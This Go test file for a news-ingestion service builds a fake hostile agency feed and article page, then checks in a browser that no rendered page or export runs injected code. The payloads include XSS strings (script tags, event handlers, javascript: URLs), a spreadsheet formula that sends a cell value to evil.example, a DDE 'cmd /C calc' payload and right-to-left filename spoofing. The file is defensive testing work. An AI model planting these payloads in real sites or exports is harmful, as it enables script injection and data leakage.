package app

import (
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/dateline-news/dateline/ingest"
	"github.com/dateline-news/dateline/internal/browsertest"
)

func TestMain(m *testing.M) { os.Exit(browsertest.Run(m)) }

// attack is put wherever a publisher can write. Should a page or an export
// ever run it, the browser says so.
const attack = `<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"'><a href="javascript:alert(4)">x</a>`

// formula is what a spreadsheet would compute; turned turns the letters that
// follow it round.
const (
	formula = `=HYPERLINK("http://evil.example/"&A1,"click")`
	turned  = "\u202Egpj.exe\u202C"
)

// hostileSite is an agency that means harm: in its feed, its page, its
// addresses.
func hostileSite(t *testing.T) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	site := httptest.NewServer(mux)
	t.Cleanup(site.Close)
	title := formula + " " + attack + " " + turned
	mux.HandleFunc("GET /rss.xml", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		fmt.Fprintf(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>%[1]s</title><link>javascript:alert(5)</link>
<item><title>%[1]s</title><link>%[2]s/a?x=%%22%%3E%%3Cscript%%3Ealert(6)%%3C/script%%3E</link><guid>javascript:alert(7)</guid><author>%[1]s</author><category>%[1]s</category><pubDate>Thu, 12 Mar 2026 10:00:00 +0000</pubDate></item>
</channel></rss>`, html.EscapeString(title), site.URL)
	})
	mux.HandleFunc("GET /a", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html lang='en" onload="alert(8)'><head><title>%[1]s</title>
<meta name="author" content="%[1]s"><meta property="article:section" content="%[1]s">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":%[2]q,"author":{"name":%[2]q},"url":"javascript:alert(9)"}</script>
<base href="javascript:alert(10)//"></head><body onload="alert(11)"><article><h1>%[1]s</h1>
<p>The zeppelin of %[1]s landed in Tbilisi on Thursday, and Levan Beridze, head of the %[1]s Committee, greeted it at the field.</p>
<p>%[3]s Levan Beridze said that the next zeppelin conference will be held in Baku on October 6-8, 2026. <script>alert(12)</script></p>
<p>@SUM(1+1)*cmd|' /C calc'!A0 was written on the side of the airship, which stayed over the town for the whole of the long evening.</p>
</article></body></html>`, html.EscapeString(title), title, turned)
	})
	mux.HandleFunc("/", http.NotFound)
	return site
}

// TestHostileReportRunsNothingAnywhere sends an attack the whole way and looks
// at every page that shows it in a real browser.
func TestHostileReportRunsNothingAnywhere(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser is not for the fast run")
	}
	site := hostileSite(t)
	source := ingest.Source{
		Name: "hostile", Agency: attack, Kind: ingest.KindFeed, URL: site.URL + "/rss.xml", Schedule: everySecond, TimeZone: "UTC", Local: true,
	}
	r := start(t, t.TempDir(), settings(source))
	hit := r.one(t, "zeppelin")
	if !strings.Contains(hit.Title, "<script>") {
		t.Fatalf("the attack did not travel: the title is %q", hit.Title)
	}
	paths := []string{
		"/", "/?q=zeppelin&open=" + hit.ID, "/?" + url.Values{"q": {`zeppelin -person:"` + attack + `"`}}.Encode(), "/?" + url.Values{"q": {attack}}.Encode(),
		"/reports/" + hit.ID, "/reports/" + hit.ID + "?" + url.Values{"q": {attack}}.Encode(), "/sources", "/dashboards/desk", "/operator",
		"/reports/" + hit.ID + "?part=preview", "/" + url.PathEscape(attack),
	}
	for _, p := range hit.People {
		paths = append(paths, "/people/"+url.PathEscape(p.ID))
	}
	for _, o := range hit.Organizations {
		paths = append(paths, "/organizations/"+url.PathEscape(o.ID))
	}
	p := browsertest.Open(t, browsertest.Options{})
	for _, path := range paths {
		p.Goto(r.address + path)
		var bad []string
		p.Eval(`[...document.querySelectorAll("a, img, form, iframe, script, base, svg image")].map(e => e.getAttribute("href") || e.getAttribute("src") || e.getAttribute("action") || "").filter(a => /^\s*(javascript|data|vbscript):/i.test(a))`, &bad)
		if len(bad) > 0 {
			t.Errorf("%s holds %q", path, bad)
		}
		var handlers int
		p.Eval(`[...document.querySelectorAll("*")].filter(e => [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style")).length`, &handlers)
		if handlers > 0 {
			t.Errorf("%s has %d elements with code or style of their own", path, handlers)
		}
		var turns bool
		p.Eval(`/[\u202D\u202E]/.test(document.title + document.body.outerHTML)`, &turns)
		if turns {
			t.Errorf("%s turns letters round", path)
		}
	}
	p.Goto(r.address + "/?q=zeppelin")
	p.Press("j") // the preview by script
	p.Await(`document.querySelector("#preview h2")`)
	p.CheckQuiet(r.address)

	// The letters turned round stay within their own words.
	p.Goto(r.address + "/reports/" + hit.ID)
	var isolated bool
	p.Eval(`[...document.querySelectorAll("h1, .report > p")].every(e => e.dir === "auto" || !/[\u202A-\u202E\u2066-\u2069]/.test(e.textContent))`, &isolated)
	if !isolated {
		t.Error("letters that turn text round reach beyond their paragraph")
	}
	checkExports(t, r.address)
}

// checkExports reads every export that there is.
func checkExports(t *testing.T, address string) {
	t.Helper()
	client := &http.Client{Timeout: time.Minute}
	for _, format := range []string{"csv", "ndjson", "ninjs", "rss", "ics"} {
		r, err := client.Get(address + "/api/v1/export?" + url.Values{"q": {"zeppelin"}, "format": {format}}.Encode())
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r.Body)
		r.Body.Close()
		if err != nil || r.StatusCode != http.StatusOK {
			t.Errorf("%s: %d %v", format, r.StatusCode, err)
			continue
		}
		if kind := r.Header.Get("Content-Type"); strings.Contains(kind, "html") || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("a browser might run %s: it is sent as %s", format, kind)
		}
		if format == "csv" {
			checkCells(t, string(content))
		}
	}
}

// checkCells finds cells that a spreadsheet would compute.
func checkCells(t *testing.T, content string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(content, "\ufeff"))).ReadAll()
	if err != nil {
		t.Error(err)
	}
	if len(rows) < 2 {
		t.Errorf("%d rows", len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a spreadsheet computes %q", cell)
			}
		}
	}
}
